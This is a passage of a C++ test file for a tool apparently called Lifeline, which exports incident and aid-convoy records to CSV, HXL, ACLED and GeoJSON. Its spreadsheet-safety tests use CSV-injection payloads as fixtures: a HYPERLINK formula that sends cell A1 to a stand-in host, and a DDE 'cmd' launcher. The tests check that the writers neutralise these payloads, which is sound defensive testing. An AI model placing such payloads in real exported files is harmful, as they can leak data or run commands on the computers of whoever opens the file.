    ASSERT_EQ(table.records.size(), 2u);
    for (size_t i = 0; i < table.records[1].fields.size(); ++i) {
      EXPECT_FALSE(table.records[1].fields[i].empty()) << r["kind"] << ": " << table.records[0].fields[i];
    }
  }
  EXPECT_EQ(kinds, std::set<std::string>(record::Kinds().begin(), record::Kinds().end()));
}

TEST(CsvRoundTripTest, EveryKindComesBackFieldForField) {
  const std::vector<json> records = FullRecords();
  for (const std::string& kind : record::Kinds()) {
    auto csv = WriteCsv(records, kind);
    ASSERT_TRUE(csv.ok()) << kind << ": " << csv.status().ToString();
    for (bool stamps : {false, true}) {
      ingest::ReadResult back = ingest::ReadLifelineCsv(*csv, {}, {.keep_stamps = stamps});
      ASSERT_TRUE(back.ok()) << kind << ":\n" << ingest::FormatRowError(back.errors[0], kind);
      std::vector<json> want;
      for (const json& r : records) {
        if (r["kind"] != kind) continue;
        want.push_back(stamps ? Entry(r, {"confidential"}) : Entry(r, {"confidential", "recorded", "by"}));
      }
      ASSERT_EQ(back.rows.size(), want.size()) << kind;
      for (size_t i = 0; i < want.size(); ++i) {
        EXPECT_EQ(back.rows[i].line, i + 2) << kind;
        const json& got = back.rows[i].record;
        // Field for field, then byte for byte as the log would hold them.
        for (auto it = want[i].begin(); it != want[i].end(); ++it) {
          EXPECT_EQ(got.value(it.key(), json()), *it) << kind << "." << it.key();
        }
        EXPECT_EQ(*record::Canonicalize(got), *record::Canonicalize(want[i])) << kind;
        ExpectSameNumberTypes(want[i], got, kind);
        EXPECT_TRUE(record::Validate(got, nullptr, {.allow_server_fields = stamps}).empty()) << kind;
      }
    }
  }
}

TEST(CsvRoundTripTest, EmptyListsAndAbsentFieldsStayApart) {
  json r = Incident3();
  r["id"] = "inc-5";
  r["actors"] = json::array();
  json s = Incident3();
  s["id"] = "inc-4";
  s["actors"] = {"[x]", "y"};
  auto csv = WriteCsv(std::vector<json>{Incident3(), r, s}, "incident");
  ASSERT_OK(csv);
  ingest::ReadResult back = ingest::ReadLifelineCsv(*csv, {});
  ASSERT_TRUE(back.ok());
  ASSERT_EQ(back.rows.size(), 3u);
  EXPECT_FALSE(back.rows[0].record.contains("actors"));
  EXPECT_EQ(back.rows[1].record["actors"], json::array());
  EXPECT_EQ(back.rows[2].record["actors"], json({"[x]", "y"}));
}

// The cell type of each column against the schema's type for the field, so
// that a field changing type in the schema cannot be missed by the layout.
TEST(CsvRoundTripTest, CellTypesMatchTheSchema) {
  const json schema = record::JsonSchema();
  auto expected = [&](const json& p) -> std::optional<tabular::CsvCell> {
    if (p.contains("$ref") || p.value("type", "") == "object") return std::nullopt;  // columns per member
    if (p.contains("enum")) {
      return p["enum"][0].is_string() ? tabular::CsvCell::kText : tabular::CsvCell::kInteger;
    }
    const std::string type = p.value("type", "");
    if (type == "integer") return tabular::CsvCell::kInteger;
    if (type == "number") return tabular::CsvCell::kNumber;
    if (type == "boolean") return tabular::CsvCell::kBoolean;
    if (type == "array") {
      const json items = p.value("items", json::object());
      bool strings = items.value("type", "") == "string" ||
                     (items.contains("enum") && items["enum"][0].is_string());
      return strings ? tabular::CsvCell::kList : tabular::CsvCell::kJson;
    }
    return tabular::CsvCell::kText;
  };
  size_t checked = 0;
  for (const json& k : schema["oneOf"]) {
    for (const tabular::CsvColumn& c : tabular::LifelineCsvLayout(k["title"].get<std::string>())) {
      const json& p = c.object.empty() ? k["properties"][c.member] : json();
      if (c.object == "location") {
        auto cell = expected(schema["$defs"]["location"]["properties"][c.member]);
        EXPECT_EQ(cell, c.cell) << c.name;
        ++checked;
      } else if (c.object.empty()) {
        ASSERT_TRUE(k["properties"].contains(c.member)) << k["title"] << "." << c.name;
        EXPECT_EQ(expected(p), c.cell) << k["title"] << "." << c.name;
        ++checked;
      }
    }
  }
  EXPECT_GT(checked, 100u);
}

// --- HXL -------------------------------------------------------------------

TEST(HxlTest, GoldenIncidents) {
  auto out = WriteHxlCsv(std::vector<json>{Incident1(), Incident3()});
  ASSERT_OK(out);
  EXPECT_EQ(*out,
            "id,kind,date,date_precision,location.admin1,location.admin2,location.admin3,"
            "location.name,location.country,location.lat,location.lon,location.geo_precision,"
            "event_type,sub_event_type,access_constraint,actors[0],actors[1],fatalities.best,"
            "fatalities.low,fatalities.high,injuries,description,sources,case,supersedes,note,"
            "recorded,by\r\n"
            "#meta+id,#meta+kind,#date+occurred,#meta+date_precision,#adm1+name,#adm2+name,"
            "#adm3+name,#loc+name,#country+code,#geo+lat,#geo+lon,#meta+geo_precision,#event+type,"
            "#event+type+sub,#access+code,#group+name,#group+name,#affected+killed,"
            "#affected+killed+min,#affected+killed+max,#affected+injured,#description,"
            "#meta+source,#meta+case,#meta+supersedes,#meta+note,#meta+recorded,#meta+by\r\n"
            "inc-1,incident,2023-09-19,,East Province,Hill District,,\"Northtown, centre\",AZE,"
            "39.81534567890123,46.7519,1,Explosions/Remote violence,"
            "Shelling/artillery/missile attack,,Party A,\"Militia, east\",3,2,5,11,"
            "\"Shelling hit a \"\"market\"\", then\nthe hospital road.\",src-a;src-b,case-x,,"
            "two reports,2023-09-20T08:15:00Z,editor@example.org\r\n"
            "inc-3,incident,2022-01-01,year,,,,Southvale,,,,,Strategic developments,,3,,,,,,,,"
            "src-a,case-x,,,2023-01-02T03:04:05Z,editor@example.org\r\n");
}

TEST(HxlTest, MovementColumnsAndOtherKindsEnvelopeOnly) {
  auto out = WriteHxlCsv(std::vector<json>{Movement(), RouteStatus()});
  ASSERT_OK(out);
  EXPECT_EQ(*out,
            "id,kind,date,date_precision,route,direction,operator,outcome,vehicles,persons,"
            "patients,cargo,period.from,period.to,sources,case,supersedes,note,recorded,by\r\n"
            "#meta+id,#meta+kind,#date+occurred,#meta+date_precision,#meta+route,"
            "#indicator+direction,#org+operator,#status+outcome,#indicator+vehicles+num,"
            "#indicator+persons+num,#indicator+patients+num,#item+cargo,#date+start,#date+end,#meta+source,#meta+case,"
            "#meta+supersedes,#meta+note,#meta+recorded,#meta+by\r\n"
            "mv-1,movement,2023-09-30,,route-road,in,ICRC,completed,12,3,,"
            "\"[{\"\"commodity\"\":\"\"flour\"\",\"\"quantity\"\":20000,\"\"unit\"\":\"\"kg\"\"},"
            "{\"\"commodity\"\":\"\"fuel\"\",\"\"note\"\":\"\"diesel, \\\"\"winter\\\"\"\"\","
            "\"\"quantity\"\":1.5,\"\"unit\"\":\"\"l\"\"}]\",,,src-a,case-x,,,2023-10-01T00:00:00Z,"
            "editor@example.org\r\n"
            "rs-1,route_status,,,,,,,,,,,,,src-a,case-x,,,2023-09-20T00:00:00Z,editor@example.org\r\n");
}

TEST(HxlTest, EveryHashtagIsValidHxl) {
  auto out = WriteHxlCsv(AllRecords());
  ASSERT_OK(out);
  tabular::CsvTable table = tabular::ParseCsv(*out);
  ASSERT_TRUE(table.errors.empty());
  ASSERT_GE(table.records.size(), 2u);
  EXPECT_FALSE(ingest::ParseHashtagRow(table.records[0].fields).has_value());  // the header
  auto row = ingest::ParseHashtagRow(table.records[1].fields);
  ASSERT_TRUE(row.has_value());
  EXPECT_TRUE(row->invalid.empty());
  for (const auto& h : row->columns) EXPECT_TRUE(h.has_value());
  // One actor column per actor of the longest list (Incident2 has three).
  size_t groups = 0;
  for (const auto& h : row->columns) groups += h->ToString() == "#group+name";
  EXPECT_EQ(groups, 3u);
  EXPECT_EQ(table.records.size(), AllRecords().size() + 2);
}

// Every field the HXL writer carries set, including the awkward values: a
// repeated actor, zero counts, text with surrounding spaces, quotes, ';' and
// CRLF, coordinates at full double precision.
json IncidentEveryField() {
  return Parse(R"({"kind":"incident","id":"inc-full","case":"case-x","sources":["src-a","src-b"],
    "supersedes":"inc-3","note":"corrected; see src-b","date":"2023-09-18","date_precision":"week",
    "location":{"name":"Eastgate","admin1":"East Province","admin2":"Hill District",
                "admin3":"Ward 3","country":"AZE","lat":-12.345678901234567,"lon":179.99999,
                "geo_precision":2},
    "event_type":"Violence against civilians","sub_event_type":"Attack","access_constraint":7,
    "actors":["Party A","Militia, east","Party A"],"fatalities":{"low":0,"best":4,"high":1000000},
    "injuries":0,"description":" Leading space, \"quotes\"; semicolons\r\nand CRLF ",
    "confidential":{"witness":"SECRET-7f3a-witness"},
    "recorded":"2023-09-20T08:15:00Z","by":"editor@example.org"})");
}

json MovementEveryField() {
  return Parse(R"({"kind":"movement","id":"mv-2","case":"case-x","sources":["src-a"],
    "supersedes":"mv-1","note":"convoy of the 3rd","route":"route-road","date":"2023-10-01",
    "date_precision":"month","direction":"out","operator":"Red Crescent","outcome":"stopped",
    "period":{"from":"2023-09-01","to":"2023-10-01"},
    "vehicles":0,"persons":40,"patients":2,
    "cargo":[{"commodity":"medicine","quantity":12.25,"unit":"kg"}],
    "confidential":{"plate":"SECRET-7f3a-witness"},
    "recorded":"2023-10-02T00:00:00Z","by":"editor@example.org"})");
}

// What an HXL export cannot bring back: `confidential` is never written, and
// `recorded`/`by` are Lifeline's stamps, which a reader never sets.
json AsImported(json r) {
  r.erase("confidential");
  r.erase("recorded");
  r.erase("by");
  return r;
}

TEST(HxlTest, RoundTripsIncidentsAndMovementsFieldForField) {
  const std::vector<json> records = {Incident1(),          Incident2(), Incident3(),
                                     IncidentEveryField(), Movement(),  MovementEveryField()};
  auto out = WriteHxlCsv(records);
  ASSERT_OK(out);
  ingest::ReadResult back = ingest::ReadHxlCsv(*out, {"case-x", "export.csv"}, {"Lifeline"});
  ASSERT_TRUE(back.ok()) << ingest::FormatRowError(back.errors[0], "");
  EXPECT_TRUE(back.warnings.empty()) << ingest::FormatRowError(back.warnings[0], "");
  // Every record names its sources, so no source record for the file.
  ASSERT_EQ(back.rows.size(), records.size());
  for (size_t i = 0; i < records.size(); ++i) {
    SCOPED_TRACE(records[i]["id"].get<std::string>());
    EXPECT_EQ(back.rows[i].record, AsImported(records[i]));
    // The same entry bytes: re-importing an export into its own store adds
    // nothing (records.md: imports are idempotent).
    EXPECT_EQ(*record::Canonicalize(back.rows[i].record),
              *record::Canonicalize(AsImported(records[i])));
  }
}

TEST(HxlTest, EveryColumnTheWriterEmitsIsReadBack) {
  // Each field of the two full records, removed in turn, must change what
  // comes back: no column is silently dropped by the reader.
  for (const json& full : {IncidentEveryField(), MovementEveryField()}) {
    const json want = AsImported(full);
    for (auto it = want.begin(); it != want.end(); ++it) {
      if (it.key() == "kind" || it.key() == "id") continue;
      std::vector<std::string> keys = {it.key()};
      if (it->is_object()) {
        keys.clear();
        for (auto inner = it->begin(); inner != it->end(); ++inner) {
          keys.push_back(it.key() + "." + inner.key());
        }
      }
      for (const std::string& key : keys) {
        SCOPED_TRACE(want["id"].get<std::string>() + " without " + key);
        json changed = full;
        if (size_t dot = key.find('.'); dot != std::string::npos) {
          changed[key.substr(0, dot)].erase(key.substr(dot + 1));
        } else {
          changed.erase(key);
        }
        auto out = WriteHxlCsv(std::vector<json>{changed});
        ASSERT_OK(out);
        // No case for the import: `case` comes from its column alone.
        ingest::ReadResult back = ingest::ReadHxlCsv(*out, {"", "export.csv"}, {"x"});
        ASSERT_TRUE(back.ok()) << ingest::FormatRowError(back.errors[0], "");
        const json& got = back.rows.back().record;
        EXPECT_NE(got, want);
        // Without sources the row cites the file's source record instead.
        if (key != "sources") {
          EXPECT_EQ(got, AsImported(changed));
        }
      }
    }
  }
}

TEST(HxlTest, KindsHxlCannotCarryAreRefusedOnImport) {
  const std::vector<json> all = AllRecords();
  auto out = WriteHxlCsv(all);
  ASSERT_OK(out);
  ingest::ReadResult back = ingest::ReadHxlCsv(*out, {"case-x", "export.csv"}, {"Lifeline"});
  size_t carried = 0;
  for (size_t i = 0; i < all.size(); ++i) {
    const std::string kind = all[i]["kind"];
    if (kind == "incident" || kind == "movement") {
      ++carried;
      continue;
    }
    EXPECT_TRUE(std::any_of(back.errors.begin(), back.errors.end(), [&](const auto& e) {
      return e.field == "#meta+kind" && e.message.find("'" + kind + "'") != std::string::npos;
    })) << kind;
  }
  EXPECT_EQ(back.errors.size(), all.size() - carried);
  EXPECT_EQ(back.rows.size(), carried);
}

TEST(HxlTest, NoRecordsGivesEnvelopeColumnsOnly) {
  EXPECT_EQ(*WriteHxlCsv({}),
            "id,kind,sources,case,supersedes,note,recorded,by\r\n"
            "#meta+id,#meta+kind,#meta+source,#meta+case,#meta+supersedes,#meta+note,#meta+recorded,"
            "#meta+by\r\n");
}

// --- ACLED -----------------------------------------------------------------

const char kAcledHeader[] =
    "event_id_cnty,event_date,year,time_precision,disorder_type,event_type,sub_event_type,actor1,"
    "assoc_actor_1,inter1,actor2,assoc_actor_2,inter2,interaction,civilian_targeting,iso,region,"
    "country,admin1,admin2,admin3,location,latitude,longitude,geo_precision,source,source_scale,"
    "notes,fatalities,tags,timestamp\r\n";

TEST(AcledTest, GoldenRows) {
  auto out = WriteAcledCsv(AllRecords());  // other kinds are left out
  ASSERT_OK(out);
  EXPECT_EQ(*out,
            std::string(kAcledHeader) +
                "inc-1,2023-09-19,2023,1,,Explosions/Remote violence,"
                "Shelling/artillery/missile attack,Party A,,,\"Militia, east\",,,,,31,,Azerbaijan,"
                "East Province,Hill District,,\"Northtown, centre\",39.81534567890123,46.7519,1,"
                "two reports,,\"Shelling hit a \"\"market\"\", then\nthe hospital road.\",3,"
                "sources=src-a;src-b; fatalities_low=2; fatalities_high=5; injuries=11,1695197700\r\n"
                "SYR123,2023-10-15,2023,3,,Battles,,Party C,,,Party D,,,,,760,,Syria,West,,,Riverside,"
                "35,-36.5,,Local media; Radio X,,Clashes.,0,actor=Party E; sources=src-acled-x,"
                "1697752800\r\n"
                "inc-3,2022-01-01,2022,3,,Strategic developments,,,,,,,,,,,,,,,,Southvale,,,,src-a,,,"
                "0,date_precision=year; access_constraint=3,1672628645\r\n");
}

TEST(AcledTest, RoundTripsThroughReadAcledCsv) {
  const std::vector<json> incidents = Incidents();
  auto out = WriteAcledCsv(incidents);
  ASSERT_OK(out);
  ingest::ReadResult back = ingest::ReadAcledCsv(*out, {"case-x", "export.csv"});
  ASSERT_TRUE(back.ok()) << ingest::FormatRowError(back.errors[0], "");
  EXPECT_TRUE(back.warnings.empty()) << ingest::FormatRowError(back.warnings[0], "");
  ASSERT_EQ(back.rows.size(), incidents.size() + 1);
  for (size_t i = 0; i < incidents.size(); ++i) {
    const json& want = incidents[i];
    const json& got = back.rows[i + 1].record;
    const std::string id = want["id"];
    SCOPED_TRACE(id);
    EXPECT_EQ(got["id"], id.starts_with("acled-") ? id : "acled-" + id);
    EXPECT_EQ(got["date"], want["date"]);
    // Year precision has no ACLED code: it comes back as month (README.md).
    const std::string precision = want.value("date_precision", "day");
    EXPECT_EQ(got.value("date_precision", ""), precision == "year" ? "month" : precision);
    json want_loc = want["location"];
    want_loc.erase("admin3");  // ReadAcledCsv does not read admin3
    EXPECT_EQ(got["location"], want_loc);
    EXPECT_EQ(got["event_type"], want["event_type"]);
    EXPECT_EQ(got.value("sub_event_type", json()), want.value("sub_event_type", json()));
    json want_actors = want.value("actors", json());
    while (want_actors.size() > 2) want_actors.erase(want_actors.size() - 1);  // in tags
    EXPECT_EQ(got.value("actors", json()), want_actors);
    // No fatalities in the record: ACLED's 0, "none reported".
    EXPECT_EQ(got["fatalities"]["best"], want.contains("fatalities") ? want["fatalities"]["best"] : json(0));
    EXPECT_EQ(got.value("description", json()), want.value("description", json()));
    // The note comes back as the note; a record without one gets its sources.
    EXPECT_EQ(got["note"], want.contains("note") ? want["note"] : json("src-a"));
  }
}

TEST(AcledTest, ReconstructsAcledEventIds) {
  json r = Incident2();
  r["id"] = "acled-arm4567";
  auto out = WriteAcledCsv(std::vector<json>{r});
  ASSERT_OK(out);
  EXPECT_TRUE(out->starts_with(std::string(kAcledHeader) + "ARM4567,")) << *out;
}

TEST(AcledTest, UnassignedCountryCodeIsKeptAsTheName) {
  json r = Incident3();
  r["location"]["country"] = "XKX";
  auto out = WriteAcledCsv(std::vector<json>{r});
  ASSERT_OK(out);
  EXPECT_NE(out->find(",,,XKX,,,,Southvale,"), std::string::npos) << *out;
}

TEST(AcledTest, BadDatePrecisionAndRecordedAreErrors) {
  json r = Incident3();
  r["date_precision"] = "decade";
  auto out = WriteAcledCsv(std::vector<json>{r});
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.status().message().find("record \"inc-3\": date_precision"), std::string::npos);
  r = Incident3();
  r["recorded"] = "yesterday";
  out = WriteAcledCsv(std::vector<json>{r});
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.status().message().find("recorded"), std::string::npos);
}

// --- GeoJSON ---------------------------------------------------------------

TEST(GeoJsonTest, GoldenFeatureCollection) {
  auto out = WriteGeoJson(AllRecords());
  ASSERT_OK(out);
  EXPECT_EQ(out->features, 4u);
  EXPECT_EQ(out->skipped_without_coordinates, 3u);  // inc-3, route-stub, route-air
  EXPECT_EQ(out->not_geographic, 6u);
  EXPECT_EQ(out->text,
            "{\"type\":\"FeatureCollection\",\"features\":[\n"
            "{\"geometry\":{\"coordinates\":[46.7519,39.81534567890123],\"type\":\"Point\"},"
            "\"id\":\"inc-1\",\"properties\":{\"date\":\"2023-09-19\",\"description\":"
            "\"Shelling hit a \\\"market\\\", then\\nthe hospital road.\",\"event_type\":"
            "\"Explosions/Remote violence\",\"fatalities\":3,\"id\":\"inc-1\",\"kind\":\"incident\","
            "\"location\":\"Northtown, centre\",\"sources\":[\"src-a\",\"src-b\"]},\"type\":\"Feature\"},\n"
            "{\"geometry\":{\"coordinates\":[-36.5,35],\"type\":\"Point\"},\"id\":\"acled-syr123\","
            "\"properties\":{\"date\":\"2023-10-15\",\"date_precision\":\"month\",\"description\":"
            "\"Clashes.\",\"event_type\":\"Battles\",\"fatalities\":0,\"id\":\"acled-syr123\","
            "\"kind\":\"incident\",\"location\":\"Riverside\",\"sources\":[\"src-acled-x\"]},"
            "\"type\":\"Feature\"},\n"
            "{\"geometry\":{\"coordinates\":[[46.75,39.8],[46.6,39.6],[46.5,39.5123456789012]],"
            "\"type\":\"LineString\"},\"id\":\"route-road\",\"properties\":{\"from\":\"Northtown\","
            "\"id\":\"route-road\",\"kind\":\"route\",\"name\":\"Corridor road\",\"sources\":"
            "[\"src-a\"],\"to\":\"Border\",\"type\":\"road\"},\"type\":\"Feature\"},\n"
            "{\"geometry\":{\"coordinates\":[45.125,41.25],\"type\":\"Point\"},\"id\":"
            "\"route-crossing\",\"properties\":{\"id\":\"route-crossing\",\"kind\":\"route\","
            "\"name\":\"North crossing\",\"sources\":[\"src-a\"],\"type\":\"crossing\"},"
            "\"type\":\"Feature\"}\n"
            "]}\n");
}

TEST(GeoJsonTest, CoordinatesAreLonLatWithFullPrecision) {
  auto out = WriteGeoJson(AllRecords());
  ASSERT_OK(out);
  json fc = json::parse(out->text);
  ASSERT_EQ(fc["type"], "FeatureCollection");
  ASSERT_EQ(fc["features"].size(), 4u);
  const json& point = fc["features"][0]["geometry"]["coordinates"];
  EXPECT_EQ(point[0].get<double>(), 46.7519);            // lon
  EXPECT_EQ(point[1].get<double>(), 39.81534567890123);  // lat, every digit
  const json& line = fc["features"][2]["geometry"]["coordinates"];
  const json path = RoadRoute()["path"];
  ASSERT_EQ(line.size(), path.size());
  for (size_t i = 0; i < path.size(); ++i) {
    EXPECT_EQ(line[i][0], path[i][1]);
    EXPECT_EQ(line[i][1], path[i][0]);
  }
}

TEST(GeoJsonTest, EmptyCollection) {
  auto out = WriteGeoJson(std::vector<json>{Movement(), Incident3()});
  ASSERT_OK(out);
  EXPECT_EQ(out->text, "{\"type\":\"FeatureCollection\",\"features\":[]}\n");
  EXPECT_EQ(out->features, 0u);
  EXPECT_EQ(out->skipped_without_coordinates, 1u);
  EXPECT_EQ(out->not_geographic, 1u);
  EXPECT_TRUE(json::parse(out->text)["features"].empty());
}

TEST(GeoJsonTest, OutOfRangeOrNonNumericCoordinatesAreErrors) {
  json r = Incident1();
  r["location"]["lat"] = 91;
  auto out = WriteGeoJson(std::vector<json>{r});
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.status().message().find("record \"inc-1\": location"), std::string::npos)
      << out.status().message();
  r = RoadRoute();
  r["path"][1] = {"39.6", 46.6};
  out = WriteGeoJson(std::vector<json>{r});
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.status().message().find("path[1]"), std::string::npos) << out.status().message();
}

// --- Spreadsheet-safe cells (every CSV-shaped format) ----------------------

// The first characters a spreadsheet may run as a formula (OWASP).
const std::vector<std::string> kFormulaStarts = {"=", "+", "-", "@", "\t", "\r"};

bool IsWholeNumber(const std::string& cell) {
  static const std::regex number("[+-]?[0-9]+(\\.[0-9]+)?([eE][+-]?[0-9]+)?");
  return std::regex_match(cell, number);
}

// A cell a spreadsheet would take as a formula.
bool StartsAFormula(const std::string& cell) {
  return !cell.empty() && std::string_view("=+-@\t\r").find(cell[0]) != std::string_view::npos &&
         !IsWholeNumber(cell);
}

// `r` with `prefix` in front of every string in it (but `kind`), arrays and
// objects included.
json Prefixed(const json& value, const std::string& prefix, std::string_view key = "") {
  if (value.is_string()) return key == "kind" ? value : json(prefix + value.get<std::string>());
  json out = value;
  if (value.is_object()) {
    for (auto it = out.begin(); it != out.end(); ++it) *it = Prefixed(*it, prefix, it.key());
  } else if (value.is_array()) {
    for (json& e : out) e = Prefixed(e, prefix);
  }
  return out;
}

// An incident whose text fields all start with `prefix`, with a negative
// longitude (a number, left as it is).
json DangerousIncident(const std::string& prefix) {
  json r = IncidentEveryField();
  for (const char* key : {"description", "note", "event_type", "sub_event_type"}) {
    r[key] = prefix + "HYPERLINK(\"http://example.org/?\"&A1,\"x\")";
  }
  for (const char* key : {"name", "admin1", "admin2", "admin3"}) {
    r["location"][key] = prefix + "cmd|' /C calc'!A0";
  }
  r["location"]["lon"] = -45.2;
  r["actors"] = json::array({prefix + "Party A", prefix + "Party B", prefix + "Party C"});
  return r;
}

json DangerousMovement(const std::string& prefix) {
  json r = MovementEveryField();
  r["operator"] = prefix + "1+1";
  r["note"] = prefix + "SUM(A1:A9)";
  return r;
}

// Every CSV-shaped file the writers make of these records: the flat CSV of
// each kind, HXL and ACLED.
std::vector<std::pair<std::string, std::string>> EveryCsvFile(const std::vector<json>& records,
                                                              const CsvExportOptions& options) {
  std::vector<std::pair<std::string, std::string>> files;
  for (const std::string& kind : record::Kinds()) {
    auto csv = WriteCsv(records, kind, options);
    EXPECT_TRUE(csv.ok()) << kind << ": " << csv.status().ToString();
    files.emplace_back("csv " + kind, csv.ok() ? *csv : "");
  }
  auto hxl = WriteHxlCsv(records, options);
  EXPECT_OK(hxl);
  files.emplace_back("hxl", hxl.ok() ? *hxl : "");
  auto acled = WriteAcledCsv(records, options);
  EXPECT_OK(acled);
  files.emplace_back("acled", acled.ok() ? *acled : "");
  return files;
}

// The cells of a CSV file exactly as a spreadsheet sees them.
std::vector<std::string> RawCells(const std::string& file) {
  tabular::CsvTable t = tabular::ParseCsv(file, {.restore_neutralised = false});
  EXPECT_TRUE(t.errors.empty());
  std::vector<std::string> cells;
  for (const tabular::CsvRecord& r : t.records) cells.insert(cells.end(), r.fields.begin(), r.fields.end());
  return cells;
}

// For the flat CSV, every string of every kind; for HXL and ACLED, every text
// field they carry.
std::vector<json> DangerousRecords(const std::string& prefix) {
  std::vector<json> records;
  for (const json& r : FullRecords()) records.push_back(Prefixed(r, prefix));
  // Stamps and dates as HXL and ACLED need them to be valid.
  for (json& r : records) {
    r["recorded"] = "2023-09-20T08:15:00Z";
    if (r.contains("date")) r["date"] = "2023-09-18";
    if (r.contains("date_precision")) r["date_precision"] = "week";
    if (r.contains("location")) r["location"]["country"] = "AZE";
  }
  records.push_back(DangerousIncident(prefix));
  records.push_back(DangerousMovement(prefix));
  return records;
}

TEST(SpreadsheetSafeTest, NoCellOfAnyCsvFormatStartsAFormula) {
  for (const std::string& prefix : kFormulaStarts) {
    SCOPED_TRACE("prefix " + record::Canonicalize(json(prefix)).value());
    for (const auto& [what, file] : EveryCsvFile(DangerousRecords(prefix), {})) {
      size_t neutralised = 0;
      for (const std::string& cell : RawCells(file)) {
        EXPECT_FALSE(StartsAFormula(cell)) << what << ": " << ingest::Quote(cell);
        neutralised += cell.starts_with("'" + prefix);
      }
      EXPECT_GT(neutralised, 0u) << what << ": the fixture put no dangerous cell in the file";
      // The numbers stay numbers.
      if (what == "csv incident" || what == "hxl" || what == "acled") {
        EXPECT_NE(file.find(",-45.2,"), std::string::npos) << what;
      }
    }
  }
}

TEST(SpreadsheetSafeTest, RawWritesCellsVerbatim) {
  for (const std::string& prefix : kFormulaStarts) {
    SCOPED_TRACE("prefix " + record::Canonicalize(json(prefix)).value());
    const std::string description = prefix + "HYPERLINK(\"http://example.org/?\"&A1,\"x\")";
    for (const auto& [what, file] : EveryCsvFile(DangerousRecords(prefix), {.raw = true})) {
      if (what != "csv incident" && what != "hxl" && what != "acled") continue;
      std::vector<std::string> cells = RawCells(file);
      EXPECT_NE(std::find(cells.begin(), cells.end(), description), cells.end()) << what;
      for (const std::string& cell : cells) EXPECT_FALSE(cell.starts_with("'" + prefix)) << what;
    }
  }
}

// Values at the edges of the rule: each formula character, a "'" before a
// letter (a quotation: as it is) and before what the reader would remove
// (escaped), '-' before letters and before digits, a whole number as text.
const std::vector<std::string> kTrickyPrefixes = {"=",  "+",   "-",  "@",   "\t", "\r", "'",
                                                  "''", "'=",  "-x", "-1",  "'-", "+-", "'\t"};

TEST(SpreadsheetSafeTest, FlatCsvOfEveryKindReadsBackToTheSameRecords) {
  for (const std::string& prefix : kTrickyPrefixes) {
    SCOPED_TRACE("prefix " + record::Canonicalize(json(prefix)).value());
    std::vector<json> records = DangerousRecords(prefix);
    json number_text = Incident1();
    number_text["id"] = "inc-number-text";
    number_text["description"] = "-45.2";  // text that is a number: written as it is
    number_text["note"] = "'";
    records.push_back(number_text);
    for (const std::string& kind : record::Kinds()) {
      auto csv = WriteCsv(records, kind);
      ASSERT_TRUE(csv.ok()) << kind << ": " << csv.status().ToString();
      ingest::ReadResult back = ingest::ReadLifelineCsv(*csv, {}, {.keep_stamps = true});
      ASSERT_TRUE(back.ok()) << kind << ":\n" << ingest::FormatRowError(back.errors[0], kind);
      std::vector<json> want;
      for (const json& r : records) {
        if (r["kind"] == kind) want.push_back(Entry(r, {"confidential"}));
      }
      ASSERT_EQ(back.rows.size(), want.size()) << kind;
      for (size_t i = 0; i < want.size(); ++i) {
        EXPECT_EQ(*record::Canonicalize(back.rows[i].record), *record::Canonicalize(want[i])) << kind;
      }
    }
  }
}

TEST(SpreadsheetSafeTest, HxlReadsBackToTheSameIncidentsAndMovements) {
  // Not "\t" and "\r": ReadHxlCsv trims every cell (README.md), neutralised
  // or not.
  for (const std::string& prefix : kTrickyPrefixes) {
    if (prefix.find_first_of("\t\r") != std::string::npos) continue;
    SCOPED_TRACE("prefix " + prefix);
    const std::vector<json> records = {DangerousIncident(prefix), DangerousMovement(prefix)};
    auto out = WriteHxlCsv(records);
    ASSERT_OK(out);
    ingest::ReadResult back = ingest::ReadHxlCsv(*out, {"case-x", "export.csv"}, {"Lifeline"});
    ASSERT_TRUE(back.ok()) << ingest::FormatRowError(back.errors[0], "");
    ASSERT_EQ(back.rows.size(), records.size());
    for (size_t i = 0; i < records.size(); ++i) {
      EXPECT_EQ(back.rows[i].record, AsImported(records[i]));
    }
  }
}

TEST(SpreadsheetSafeTest, AcledReadsBackTheSameText) {
  for (const std::string& prefix : kTrickyPrefixes) {
    if (prefix.find_first_of("\t\r") != std::string::npos) continue;  // trimmed, as above
    SCOPED_TRACE("prefix " + prefix);
    const json want = DangerousIncident(prefix);
    auto out = WriteAcledCsv(std::vector<json>{want});
    ASSERT_OK(out);
    ingest::ReadResult back = ingest::ReadAcledCsv(*out, {"case-x", "export.csv"});
    ASSERT_TRUE(back.ok()) << ingest::FormatRowError(back.errors[0], "");
    ASSERT_EQ(back.rows.size(), 2u);
    const json& got = back.rows[1].record;
    for (const char* key : {"description", "note", "event_type", "sub_event_type"}) {
      EXPECT_EQ(got.value(key, json()), want[key]) << key;
    }
    for (const char* key : {"name", "admin1", "admin2", "lon"}) {
      EXPECT_EQ(got["location"].value(key, json()), want["location"][key]) << key;
    }
    EXPECT_EQ(got["actors"], json::array({want["actors"][0], want["actors"][1]}));
  }
}

}  // namespace
}  // namespace lifeline::exports
